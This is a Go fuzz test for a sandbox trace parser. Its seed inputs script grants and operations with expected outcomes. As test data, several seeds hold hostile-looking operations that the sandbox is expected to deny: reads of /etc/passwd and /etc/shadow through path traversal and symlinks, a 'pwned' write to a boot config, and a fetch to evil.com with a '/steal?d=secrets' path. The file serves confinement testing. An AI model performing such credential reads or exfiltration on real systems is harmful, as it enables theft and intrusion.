package fuzz

import (
	"testing"

	"github.com/sbxfuzz/sbxfuzz/internal/fuzzcheck"
)

// workedTrace is SPEC §10's worked trace, the richest seed.
const workedTrace = `grant fs_read /work/
grant fs_write /work/out/
grant net api.internal
grant tool summarize
budget ops 7
file /work/data.txt "hello"
route api.internal /status "ok"

fs_read /work/data.txt                        => ok "hello"
fs_read /etc/passwd                           => fs_read_denied
fs_read /work/../etc/shadow                   => path_traversal
fs_write /work/out/report.txt "done"          => ok
fs_write /system/boot.cfg "pwned"             => fs_write_denied
net_fetch api.internal /status                => ok "ok"
net_fetch evil.com "/steal?d=secrets"         => egress_denied
fs_read /work/data.txt                        => max_ops
`

// FuzzParse checks parse → format → parse on arbitrary text: see CheckParse.
func FuzzParse(f *testing.F) {
	f.Add([]byte(workedTrace))
	f.Add([]byte(""))
	f.Add([]byte("# finding: confinement\n# seed 42\n\ngrant fs_read /a\n\n# attack\nfs_read /a/../b => path_traversal\n"))
	f.Add([]byte("budget wall 5\nclock 10 3\ndns api.internal 203.0.113.1 ::ffff:127.0.0.1 fe80::1%eth0\ntoolout echo \"\\x00\"\n"))
	f.Add([]byte("\"grant\" a b => malformed_op\n\"dns\" => unknown_op \"=>\"\nfs_read a#b \"\\xff\\n\\\"\\\\\" => not_found \"\"\n"))
	f.Add([]byte("fs_read /work/\uff0e\uff0e/etc \"#x\" # trailing\n=> ok\n"))
	f.Add([]byte("grant net \"a b\"\nfs_read \"unterminated\n"))
	f.Add([]byte("link /work/l /etc/passwd\nlink /work/d ../etc\nlink /work/loop loop\nlink \"/work/\\x00\" \"\"\nfs_read /work/d/passwd => fs_read_denied\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		if err := fuzzcheck.CheckParse(data); err != nil {
			t.Fatal(err)
		}
	})
}
